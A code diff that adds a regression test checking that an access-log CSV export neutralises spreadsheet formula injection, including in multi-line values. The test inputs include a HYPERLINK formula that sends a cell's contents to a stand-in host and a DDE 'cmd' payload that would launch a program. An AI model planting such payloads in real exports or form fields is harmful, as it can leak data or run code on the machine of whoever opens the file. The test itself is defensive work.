@@ -423,6 +423,37 @@ describe('GET /api/v1/log_acceso y /csv', () => {
     expect(filas[2]![7]).toBe('Dijo "hola";\nchau');
   });
 
+  // Issue 37, item 5: Papa's escapeFormulae tested /^[=+\-@\t\r].*$/, which a value with a line
+  // break never matches, so an employee's "=HYPERLINK(…)\n…" through log_acceso reached the admin's
+  // Excel as a formula. (The route trims the ends of each field; csv.test.ts covers leading blanks.)
+  it('una fórmula que un empleado escribe por log_acceso sale neutralizada en el CSV, también con saltos de línea y en cualquier línea', async () => {
+    const empleado = await crearUsuario(db(), { username: `empleado_${marca}` });
+    const suToken = await iniciarSesion(t.app, empleado.username);
+    const r = await post(
+      '/api/v1/log_acceso',
+      {
+        platform: '=HYPERLINK("http://malo/?"&A1)\nAndroid',
+        appVersion: '-1+1\r\n2',
+        browser: 'Firefox\r\n@SUM(A1:A9)',
+        message: '=HYPERLINK("http://malo","Abrir")\nsegunda línea\n  -2+3\n\t+cmd|\' /C calc\'!A0\nfin = bien',
+      },
+      suToken,
+    );
+    expect(r.statusCode, r.body).toBe(200);
+    const csv = await get(`/api/v1/log_acceso/csv?filter=${empleado.username}`);
+    expect(csv.statusCode).toBe(200);
+    const filas = Papa.parse<string[]>(csv.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
+    expect(filas).toHaveLength(2);
+    const fila = filas[1]!;
+    expect(fila[1]).toBe(empleado.username);
+    expect(fila[3]).toBe(`'=HYPERLINK("http://malo/?"&A1)\nAndroid`);
+    expect(fila[4]).toBe("'-1+1\r\n2");
+    expect(fila[5]).toBe("Firefox\r\n'@SUM(A1:A9)");
+    expect(fila[7]).toBe("'=HYPERLINK(\"http://malo\",\"Abrir\")\nsegunda línea\n'  -2+3\n'\t+cmd|' /C calc'!A0\nfin = bien");
+    // No line of any cell starts a formula, blanks aside.
+    for (const c of fila) for (const linea of c.split(/\r\n|\r|\n/)) expect(linea.trimStart(), JSON.stringify(linea)).not.toMatch(/^[=+\-@]/);
+  });
+
   it('el CSV aplica los mismos filtros y responde 400 en el sobre JSON ante una consulta inválida', async () => {
     const r = await get(`/api/v1/log_acceso/csv?filter=${jose.username}&desde=2026-03-10`);
     const filas = Papa.parse<string[]>(r.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
